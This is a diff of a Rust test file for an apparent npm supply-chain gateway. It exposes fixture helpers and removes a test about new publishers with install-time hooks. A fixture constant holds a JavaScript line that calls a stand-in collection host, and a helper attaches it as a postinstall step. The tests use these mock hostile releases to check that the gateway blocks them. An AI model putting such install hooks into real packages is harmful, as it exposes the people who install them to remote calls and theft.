@@ -13,7 +13,7 @@ const COLLECTS: &str = "require('https').get('https://collect.evil.example/x')\n
 const ASKS: &str = "require('https').get('https://api.acme.example/x')\nmodule.exports = 1;\n";
 
 /// Ten releases of a year ago by the usual maintainer, and what came since.
-fn package(name: &str, since: impl IntoIterator<Item = Release>) -> Package {
+pub(crate) fn package(name: &str, since: impl IntoIterator<Item = Release>) -> Package {
     let past = (0..10).map(|number| {
         Release::new(format!("1.{number}.0"))
             .published(&format!("2025-{:02}-05T09:00:00.000Z", number + 1))
@@ -34,14 +34,14 @@ fn hostile(version: &str, published: &str) -> Release {
         .script("postinstall", "node x.js")
 }
 
-fn before(package: Package) -> Registry {
+pub(crate) fn before(package: Package) -> Registry {
     let registry = Registry::start();
     registry.set_now(NOW);
     registry.add(package);
     registry
 }
 
-fn asked(gateway: &Gateway, version: &str) -> (u16, Value) {
+pub(crate) fn asked(gateway: &Gateway, version: &str) -> (u16, Value) {
     let path = format!("/ledger-copy/-/ledger-copy-{version}.tgz");
     let reply = gateway.get(&path, &[("user-agent", NPM)]);
     match reply.status {
@@ -153,48 +153,6 @@ fn a_release_is_recommended_only_if_it_is_known_to_be_fine() {
         "{}",
         told.text()
     );
-}
-
-/// Somebody new, with a step at install time that nothing else speaks against, in two releases of which the first is
-/// out for longer than a week: whoever asks a fresh weir for the second alone is told what one is told who resolved.
-#[test]
-fn a_release_that_nobody_asked_for_excuses_nothing_that_it_would_be_refused_for() {
-    let by = |publisher: &str, hook: bool, version: &str, published: &str| {
-        let release = Release::new(version)
-            .published(published)
-            .publisher(publisher);
-        match hook {
-            true => release
-                .file("x.js", "console.log('built');\n")
-                .script("postinstall", "node x.js"),
-            false => release,
-        }
-    };
-    let (first, second) = ("2026-11-01T11:00:00.000Z", "2026-11-18T11:00:00.000Z");
-    for (publisher, hook, status) in [
-        ("eve", true, 403),
-        // Somebody new who changes nothing is worth a notice, and so is a step of the usual account.
-        ("eve", false, 200),
-        ("mara", true, 200),
-    ] {
-        let since = [
-            by(publisher, hook, "1.10.0", first),
-            by(publisher, hook, "1.10.1", second),
-        ];
-        let registry = before(package("ledger-copy", since));
-        let pinned = World::new();
-        let gateway = pinned.serve(&registry);
-        assert_eq!(asked(&gateway, "1.10.1").0, status, "{publisher} {hook}");
-        let inspected = World::new();
-        let told = inspected.run_before(&registry, &["inspect", "ledger-copy@1.10.1", "--json"]);
-        let told: Value = serde_json::from_str(&told.stdout).unwrap();
-        let action = &told["decision"]["action"];
-        assert_eq!(
-            action == "hold",
-            status == 403,
-            "{publisher} {hook}: {action}"
-        );
-    }
 }
 
 /// What the code of one release does at install time, the one before it may do as well, if it runs something too: it
